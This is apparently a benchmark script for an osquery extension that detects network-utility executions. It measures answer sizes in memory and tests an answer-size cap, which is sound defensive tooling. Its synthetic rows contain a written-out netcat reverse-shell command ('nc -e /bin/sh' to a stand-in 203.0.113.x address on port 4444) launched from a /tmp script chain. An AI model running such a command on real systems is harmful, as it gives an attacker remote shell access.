"""What osqueryd holds for an answer of network_utility_execs, and what the cap refuses.

Run after set-up: `.venv/bin/python bench/answer_size.py`. Prints figures; asserts nothing.

osqueryd keeps an extension table's whole answer in memory, in the worker its watchdog
watches (200 MB of growth by default, then the worker is killed and the query denylisted
for a day): the thrift reply is decoded into a vector of std::map<string, string>, then
copied row by row into the PluginResponse (osquery/extensions/impl_thrift.cpp,
ExtensionClient::call), so both copies are alive at the peak. For 1,000, 10,000 and
100,000 stored rows of two shapes (a short chain: sshd > bash > /tmp script > nc; a deep
one like this VM's, where a row averages about 3 KB of text), it prints per answer of
`SELECT *` (every column used) and of `SELECT pid, utility` (osquery sends the columns a
query uses, and the extension sends only those): the text bytes, the thrift reply
bytes (the extension's own encoder), osqueryd's peak by the model in tables.py, and
whether the extension's cap (--max-answer-mb, default tables.DEFAULT_MAX_ANSWER_MB)
refuses it; and what counting and measuring cost the extension (the size is summed in
SQL before the rows are sent; an answer too many rows long is refused on its count).
"""

from __future__ import annotations

import json
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "bench"))

from common import save  # noqa: E402

from osquery_netutil.tables.thrift import write_call_result  # noqa: E402
from osquery_netutil.store.store import Store  # noqa: E402
from osquery_netutil.tables.plugins import (DEFAULT_MAX_ANSWER_MB, AnswerTooLarge, ExecsTable, columns_used,  # noqa: E402
                                    osqueryd_bytes, stored_peak)
from osquery.extensions.ttypes import ExtensionResponse, ExtensionStatus  # noqa: E402

SIZES = (1_000, 10_000, 100_000)
SHORT = [("/tmp/.x/stage.sh", "/bin/sh /tmp/.x/stage.sh"), ("/usr/bin/bash", "-bash"),
         ("/usr/sbin/sshd", "sshd: root@pts/0"), ("/sbin/init", "/sbin/init")]
# A chain as deep as this VM's: a CI runner's tree (memfd launcher, python, pytest with its
# arguments, shells), each with a long command line.
DEEP = [(f"/usr/bin/tool{i}", f"/usr/bin/tool{i} --config /etc/tool{i}/conf.d/settings.yaml --log-level info "
         f"--workdir /var/lib/tool{i}/work --run-id 5f1c{i:04d}-aa3e-4c1f-9d2e-7b8c6a5d4e3f " + "x" * 60)
        for i in range(12)]


def row(i: int, chain: list[tuple[str, str]], now: int, count: int) -> dict:
    ancestors = json.dumps([{"pid": 4000 + d, "path": p, "cmdline": c, "uid": 0, **({"script": p} if p.endswith(".sh") else {})}
                            for d, (p, c) in enumerate(chain)])
    argv = ["nc", "-e", "/bin/sh", f"203.0.113.{i % 250}", "4444"]
    return {"time": now - 86_000 + i * 86_000 // count, "pid": 10_000 + i, "parent": 9_000, "uid": 0, "gid": 0,
            "username": "root", "utility": "netcat", "category": "remote_shell", "technique": "T1095",
            "matched_by": "name", "comm": "nc", "path": "/usr/bin/nc", "cmdline": " ".join(argv),
            "json_cmdline": json.dumps(argv), "argc": 5, "args_truncated": 0, "cwd": "/tmp/.x",
            "ip_args": argv[3], "public_ip_args": argv[3], "parent_path": chain[0][0], "parent_cmdline": chain[0][1],
            "ancestors": ancestors, "container_id": "", "cgroup_path": "/user.slice/user-0.slice/session-1.scope"}


def measure(store: Store, columns: list[str] | None) -> dict:
    context = {"constraints": [], **({"colsUsed": columns} if columns else {})}
    rows = ExecsTable(lambda: store).generate(context)
    estimate = stored_peak(rows, columns_used(context))
    text = reply = 0
    listed = []
    for r in rows:
        text += sum(len(k) + len(v.encode()) for k, v in r.items())
        listed.append(r)

    def send(piece: bytes) -> None:
        nonlocal reply
        reply += len(piece)

    write_call_result(ExtensionResponse(status=ExtensionStatus(code=0, message="OK"), response=listed), send)
    assert estimate == osqueryd_bytes(listed)   # the SQL sum is the model's
    refused = False
    start = time.perf_counter()   # what the extension pays before sending: count, then size or refuse
    try:
        ExecsTable(lambda: store, max_answer_mb=DEFAULT_MAX_ANSWER_MB).generate(context).close()
    except AnswerTooLarge:
        refused = True
    checked = time.perf_counter() - start
    return {"rows": len(listed), "text_mb": text / 1e6, "reply_mb": reply / 1e6, "osqueryd_peak_mb": estimate / 1e6,
            "check_ms": checked * 1e3, "refused": refused}


def main() -> None:
    figures = {}
    now = int(time.time())
    print(f"osqueryd's peak for one answer (model: tables.osqueryd_bytes); cap {DEFAULT_MAX_ANSWER_MB} MB")
    print(f"{'shape':6} {'rows':>8} {'columns':>8} {'text MB':>8} {'reply MB':>9} {'peak MB':>8} {'B/row':>6} "
          f"{'check ms':>8}  refused")
    with tempfile.TemporaryDirectory(prefix="netutil-answer-") as tmp:
        Path(tmp).chmod(0o700)
        for shape, chain in (("short", SHORT), ("deep", DEEP)):
            for count in SIZES:
                path = Path(tmp) / f"{shape}-{count}.db"
                with Store(path, max_rows=count + 10) as store:
                    store.add_many([row(i, chain, now, count) for i in range(count)])
                    store.flush()
                    for label, columns in (("all", None), ("2", ["pid", "utility"])):
                        f = measure(store, columns)
                        figures[f"{shape}/{count}/{label}"] = f
                        print(f"{shape:6} {count:>8,} {label:>8} {f['text_mb']:>8.1f} {f['reply_mb']:>9.1f} "
                              f"{f['osqueryd_peak_mb']:>8.1f} {f['osqueryd_peak_mb'] * 1e6 / count:>6,.0f} "
                              f"{f['check_ms']:>8.0f}  {'yes' if f['refused'] else 'no'}")
                path.unlink()
    print(f"  written to {save('answer_size', {'cap_mb': DEFAULT_MAX_ANSWER_MB, 'figures': figures})}")


if __name__ == "__main__":
    main()
